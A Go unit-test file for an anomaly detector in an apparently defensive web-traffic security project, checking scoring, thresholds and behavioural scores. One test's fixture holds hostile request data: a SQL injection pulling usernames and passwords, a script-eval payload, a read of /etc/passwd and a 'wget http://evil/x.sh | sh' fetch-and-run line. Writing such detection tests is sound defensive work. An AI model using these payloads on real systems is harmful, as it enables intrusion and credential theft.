package anomaly

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cerberus-defense/cerberus/internal/features"
)

func TestScoreDeterministic(t *testing.T) {
	d := NewDetector(0.75)
	f := features.Extract(features.RequestInput{
		Method: "GET",
		URL:    "/api/users",
		Headers: map[string]string{
			"User-Agent": "Mozilla/5.0",
			"Accept":     "application/json",
		},
	})

	s1, a1 := d.Score(f)
	s2, a2 := d.Score(f)
	assert.Equal(t, s1, s2)
	assert.Equal(t, a1, a2)
	assert.GreaterOrEqual(t, s1, 0.0)
	assert.LessOrEqual(t, s1, 1.0)
}

func TestHostileScoresAboveBenign(t *testing.T) {
	d := NewDetector(0.75)

	benign := features.Extract(features.RequestInput{
		Method: "GET",
		URL:    "/api/users?page=2",
		Headers: map[string]string{
			"User-Agent": "Mozilla/5.0 (X11; Linux x86_64)",
			"Accept":     "text/html",
			"Referer":    "https://example.com/",
		},
	})
	hostile := features.Extract(features.RequestInput{
		Method: "POST",
		URL:    "/search?q=' UNION SELECT username,password FROM users--",
		Body:   `<script>eval(atob("?"))</script>; cat /etc/passwd && wget http://evil/x.sh | sh`,
		Headers: map[string]string{
			"User-Agent": "sqlmap/1.7.2#stable",
		},
	})

	benignScore, _ := d.Score(benign)
	hostileScore, _ := d.Score(hostile)
	assert.Greater(t, hostileScore, benignScore,
		"isolation forest must separate attack traffic from baseline")
}

func TestThresholdGatesIsAnomaly(t *testing.T) {
	f := features.Extract(features.RequestInput{Method: "GET", URL: "/"})

	low := NewDetector(0.0001)
	score, isAnomaly := low.Score(f)
	assert.Equal(t, score >= 0.0001, isAnomaly)

	high := NewDetector(1.1)
	_, isAnomaly = high.Score(f)
	assert.False(t, isAnomaly, "no score can clear a threshold above 1")
}

func TestZeroThresholdFallsBackToDefault(t *testing.T) {
	d := NewDetector(0)
	assert.Equal(t, DefaultPOIThreshold, d.Threshold())
}

func TestModelInfo(t *testing.T) {
	d := NewDetector(0.75)
	info := d.ModelInfo()
	require.NotNil(t, info)
	assert.Equal(t, 0.75, d.Threshold())
}

func TestBehavioralScore(t *testing.T) {
	tests := []struct {
		name   string
		scores []float64
		want   float64
	}{
		{"too little history", []float64{0.9, 0.9}, 0},
		{"empty", nil, 0},
		{"steady low", []float64{0.1, 0.1, 0.1}, 0.05},
		{"steady high", []float64{0.8, 0.8, 0.8}, 0.4},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.InDelta(t, tt.want, BehavioralScore(tt.scores), 1e-9)
		})
	}
}

func TestBehavioralScoreVariancePenalty(t *testing.T) {
	erratic := BehavioralScore([]float64{0.1, 0.9, 0.1, 0.9, 0.1})
	steady := BehavioralScore([]float64{0.42, 0.42, 0.42, 0.42, 0.42})
	assert.Greater(t, erratic, steady)
}

func TestBehavioralScoreWindowsLastTen(t *testing.T) {
	old := make([]float64, 30)
	for i := range old {
		old[i] = 0.95
	}
	recent := append(old, []float64{0.1, 0.1, 0.1, 0.1, 0.1, 0.1, 0.1, 0.1, 0.1, 0.1}...)
	assert.InDelta(t, 0.05, BehavioralScore(recent), 1e-9,
		"only the last ten scores should count")
}

func TestBehavioralScoreClamped(t *testing.T) {
	s := BehavioralScore([]float64{0, 1, 0, 1, 0, 1})
	assert.LessOrEqual(t, s, 1.0)
}
